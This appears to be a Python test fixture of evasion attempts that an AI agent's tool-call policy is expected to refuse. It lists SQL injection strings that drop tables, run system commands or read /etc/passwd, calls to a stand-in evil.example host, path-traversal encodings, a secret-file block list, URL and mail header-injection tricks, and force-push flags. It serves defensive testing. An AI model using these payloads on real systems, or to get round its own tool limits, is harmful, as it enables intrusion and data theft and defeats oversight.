"""Ways around templates, by the template and by what is tried: each is refused, with the settings of the examples."""

from collections.abc import Mapping, Sequence
from typing import Any, Final

from tests.policy.template_rows import Asked

_SQL: Final[Mapping[str, str]] = {
    "a comment to the end of the line": "select 1 -- x\ndrop table t",
    "a comment that a server runs": "select 1 /*!50000 into outfile 'x'*/",
    "a comment of MySQL": "select 1 # x",
    "a common table that inserts": "with x as (insert into t values (1) returning 1) select * from x",
    "a common table that changes": "with x as (update t set a = 1 returning 1) select * from x",
    "a second statement after a vertical tab": "select 1;\x0bdrop table t",
    "a second statement without a semicolon": "select 1 drop table t",
    "a word after a number": "select 1into t from u",
    "a word after a number with an exponent": "select 1einto t from u",
    "a word after a hexadecimal number": "select 0x1into t from u",
    "a second statement after a number": "select 1drop table t",
    "stopping the server": "select 1 shutdown with nowait",
    "ending a session": "select 1 kill 53",
    "a copy of the database": "select 1 backup database x to disk = '//evil.example/x'",
    "waiting": "select 1 waitfor delay '1:00'",
    "another database": "select 1 use master",
    "a statement for the checks of the server": "select 1 dbcc freeproccache",
    "a loop": "select 1 while 1=1 select 1",
    "an analysed plan of a write": "explain analyze delete from t",
    "a plan that is run by its name": "explain analyze execute p",
    "a name spelled with another escape": "select u&\"pg!005fsleep\" uescape '!' (9)",
    "a notification": "select pg_notify('a', 'b')",
    "a lock by trying": "select pg_try_advisory_lock(1)",
    "a slot": "select pg_create_physical_replication_slot('x')",
    "a file by an extension": "select pg_file_write('x', 'y', false)",
    "counters": "select pg_stat_reset()",
    "a quoted function": "select \"pg_notify\" ('a', 'b')",
    "a function beside its schema": "select pg_catalog . pg_notify('a', 'b')",
    "a large object": "select loread(0, 1)",
    "a query in a text": "select * from ts_stat('select ' || 'pg_sl' || 'eep(9)')",
    "a table of a query in a text": "select * from crosstab('sel' || 'ect 1')",
    "a request by HTTP": "select http_get('https://evil.example')",
    "a function in a cloud": "select aws_lambda.invoke('x', '{}')",
    "an export to a bucket": "select aws_s3.query_export_to_s3('select 1', 'x')",
    "a lock by its name": "select get_lock('a', 100)",
    "a command of the system": "select sys_exec('id')",
    "a folder": "select * from fsdir('/')",
    "a file as text": "select * from read_text('/etc/passwd')",
    "a file as a table": "select * from '/etc/passwd'",
    "a joined file": "select * from t join '/etc/passwd' on true",
    "a glob": "select * from glob('/etc/*')",
    "a table at a URL": "select * from url('https://evil.example', 'CSV', 'a String')",
    "another server": "select * from remote('evil.example', 't')",
    "a program": "select * from executable('x', 'CSV', 'a String')",
    "a query elsewhere": "select * from external_query('x', 'select 1')",
    "a URL of the database": "select httpuritype('https://evil.example').getclob() from dual",
    "a function of the system": "select system$cancel_all_queries(1)",
}

_PATHS: Final[Mapping[str, str]] = {
    "encoded twice": "/srv/share/%252e%252e/etc",
    "encoded too long": "/srv/share/%c0%ae%c0%ae/etc",
    "wide dots": "/srv/share/\uff0e\uff0e/etc",
    "two dots in one character": "/srv/share/\u2025/etc",
    "a wide slash": "/srv/share/..\uff0fetc",
    "a wide backslash": "/srv/share/..\uff3cetc",
    "a slash of division": "/srv/share/..\u2215etc",
    "a step that ends the path": "/srv/share/..",
    "a deleted character": "/srv/share/a\x7f",
    "a character without width in a name": "/srv/share/.e\u200cnv",
    "a mark of direction in a name": "/srv/share/.env\u200e",
    "a byte order mark": "/srv/share/\ufeff.env",
}

_SECRETS: Final[Sequence[str]] = (
    ".env ",
    ".env.",
    ".env::$DATA",
    ".ENV",
    ".env~",
    ".env-prod",
    ".envrc",
    ".ssh./config",
    ".git ./config",
    "id_ecdsa_sk",
    "x.pem.bak",
    "x.key~",
    "x.pem ",
    "shadow-",
    "credentials.json.bak",
    ".git-credentials",
    ".htpasswd",
    ".azure/x",
    ".vault-token",
    ".my.cnf",
    "proc/self/environ",
    "proc/self/cwd/x",
    "proc/1/mem",
    "secrets/prod.yaml",
    "x.ppk",
)

_URLS: Final[Mapping[str, str]] = {
    "a user": "https://api.example.com:443@evil.example/",
    "a user that is encoded": "https://api.example.com%40evil.example/",
    "a backslash": "https://evil.example\\.api.example.com/",
    "letters that look alike": "https://\u0430pi.example.com/",
    "letters that look alike, encoded": "https://xn--pi-6kc.example.com/",
    "a wide dot": "https://evil\uff0eexample/",
    "a trailing dot": "https://api.example.com./",
    "an empty name": "https://.example.org/",
    "two dots": "https://a..example.org/",
    "two names before it": "https://a.b.example.org/",
    "an address as one number": "https://2130706433/",
    "an address in hexadecimal": "https://0x7f000001/",
    "an address in octal": "https://0177.0.0.1/",
    "a short address": "https://127.1/",
    "an address of version 6": "https://[::1]/",
    "a mapped address": "https://[::ffff:127.0.0.1]/",
    "no slashes": "https:api.example.com",
    "three slashes": "https:///api.example.com/",
    "another scheme": "ftp://api.example.com/",
    "a tab in the scheme": "ht\ttps://api.example.com/",
    "a line end": "https://api.example.com\r\nHost: evil.example/",
    "a name that begins with a dash": "https://-a.example.org/",
}

_MAIL: Final[Mapping[str, Mapping[str, Any]]] = {
    "a relay by percent": {"to": "eve%evil.example@example.com"},
    "a relay by exclamation": {"to": "evil.example!eve@example.com"},
    "a route": {"to": "@example.com:eve@evil.example"},
    "an option for the program that sends": {"to": "-be@example.com"},
    "a trailing dot": {"to": "bob@example.com."},
    "a quoted name": {"to": '"eve@evil.example "@example.com'},
    "a second line": {"to": "bob@example.com\r\nBcc: eve@evil.example"},
    "a last line end": {"to": "bob@example.com\n"},
    "letters that look alike": {"to": "bob@ex\u0430mple.com"},
    "an address by number": {"to": "bob@[127.0.0.1]"},
    "a part of the domain": {"to": "bob@mail.example.com"},
    "names in capitals": {"to": "bob@example.com", "BCC": "eve@evil.example"},
    "a header in the subject": {"to": "bob@example.com", "subject": "x\r\nBcc: eve@evil.example"},
    "a header after a line feed": {"to": "bob@example.com", "subject": "x\nBcc: eve@evil.example"},
    "a header after a carriage return": {"to": "bob@example.com", "subject": "x\rBcc: eve@evil.example"},
    "a subject that is no text": {"to": "bob@example.com", "subject": ["x", "Bcc: eve@evil.example"]},
    "an object": {"to": {"address": "bob@example.com"}},
}

_FORCE: Final[Sequence[str]] = (
    "--force",
    "--forc",
    "-f",
    "-fu",
    "-uf",
    "-qf",
    "-4f",
    "-d",
    "-du",
    "--del",
    "--mirr",
    "--prune",
    "--prun",
    " -f",
    "\t--force",
    "--force=true",
    "--no-verify",
    "--exe=x",
    "--receive-p=x",
    "+HEAD:main",
    "+refs/heads/main",
    ":main",
    ":refs/heads/main",
)

_BUILDS: Final[Sequence[str]] = (
    ".GitHub/workflows/x.yml",
    ".github\u200c/x",
    ".g\u200cithub/x",
    ".travis.yml",
    ".drone.yml",
    "bitbucket-pipelines.yml",
    ".woodpecker/x.yml",
    ".woodpecker.yml",
    ".forgejo/workflows/x.yml",
    ".gitea/workflows/x.yml",
    "appveyor.yml",
    "cloudbuild.yaml",
    ".teamcity/settings.kts",
    ".pre-commit-config.yaml",
    ".devcontainer/devcontainer.json",
    "Jenkinsfile.prod",
    ".tekton/x.yaml",
    ".azure-pipelines/x.yml",
    ".lfsconfig",
    "docs/CODEOWNERS",
    ".git/hooks/pre-commit",
    ".git./config",
    ".github /x",
)


def _site(**more: Any) -> dict[str, Any]:
    return {"owner": "acme", "repo": "site", **more}


def _push(**more: Any) -> dict[str, Any]:
    return _site(branch="agents/a", files=[{"path": "a"}], message="m", **more)


EVASIONS: Final[Mapping[str, Mapping[str, Asked]]] = {
    "sql-read-only": {
        **{way: Asked("deny:sql_refused", "query", {"sql": text}) for way, text in _SQL.items()},
        "a statement beside another": Asked("deny:sql_refused", "query", {"sql": "select 1", "SQL": "drop table t"}),
    },
    "filesystem-jail": {
        **{way: Asked("deny:", "read_text_file", {"path": path}) for way, path in _PATHS.items()},
        **{
            f"a secret: {name}": Asked("deny:secret_path", "read_text_file", {"path": f"/srv/share/{name}"})
            for name in _SECRETS
        },
        "a path that nobody looks at": Asked(
            "deny:outside_jail", "read_text_file", {"path": "/srv/share/a", "file_path": "/etc/passwd"}
        ),
        "arguments in a list": Asked("deny:outside_jail", "read_text_file", ["/srv/share/a"]),
    },
    "egress": {
        **{way: Asked("deny:destination_refused", "send_mail", value) for way, value in _MAIL.items()},
        **{
            f"a request to {way}": Asked("deny:destination_refused", "fetch", {"url": url}, upstream="web")
            for way, url in _URLS.items()
        },
    },
    "browser": {
        **{way: Asked("deny:page_closed", "browser_navigate", {"url": url}) for way, url in _URLS.items()},
        "a page beside another": Asked(
            "deny:page_closed", "browser_navigate", {"url": "https://docs.example.com/", "uri": "https://evil.example/"}
        ),
        "a page by a tool for something else": Asked(
            "deny:page_closed", "browser_click", {"ref": "e1", "url": "https://evil.example/"}
        ),
    },
    "code-hosts": {
        **{
            f"a branch {text!r}": Asked("deny:", "push_files", {**_push(), "branch": text})
            for text in (
                *_FORCE,
                "agents/a:main",
                "agents/a..b",
                "agents/a~1",
                "agents/a^",
                "agents/a@{1}",
                "refs/heads/main",
            )
        },
        **{
            f"an option {text!r}": Asked("deny:history_rewritten", "push_files", {**_push(), "message": text})
            for text in _FORCE
        },
        **{
            f"what is built: {path}": Asked("deny:guarded_path", "push_files", {**_push(), "files": [{"path": path}]})
            for path in _BUILDS
        },
        "force by another name": Asked("deny:", "push_files", _push(forcePush=True)),
        "force as a number": Asked("deny:history_rewritten", "push_files", _push(force=1)),
        "force as nothing": Asked("deny:history_rewritten", "push_files", _push(force=None)),
    },
    "cloud-limit": {
        "arguments in a list": Asked("deny:change_too_large", "restart", ["all"]),
        "arguments in a text": Asked("deny:change_too_large", "restart", "all"),
        "a name in capitals": Asked(
            "deny:change_too_large", "scale", {"instances": 1, "Instances": 9, "region": "eu-west-1"}
        ),
        "a region in a list": Asked("deny:change_too_large", "scale", {"instances": 1, "region": ["eu-west-1"]}),
    },
    "payments-four-eyes": {
        "a name in capitals": Asked("deny:payment_refused", "refund", {"amount": 1, "Amount": 9999, "currency": "EUR"}),
        "arguments in a list": Asked("deny:payment_refused", "refund", [1, "EUR"]),
        "a currency in small letters": Asked("deny:payment_refused", "refund", {"amount": 1, "currency": "eur"}),
        "true as an amount": Asked("deny:payment_refused", "refund", {"amount": True, "currency": "EUR"}),
    },
}
"""A row that ends with a colon is refused for whichever reason."""
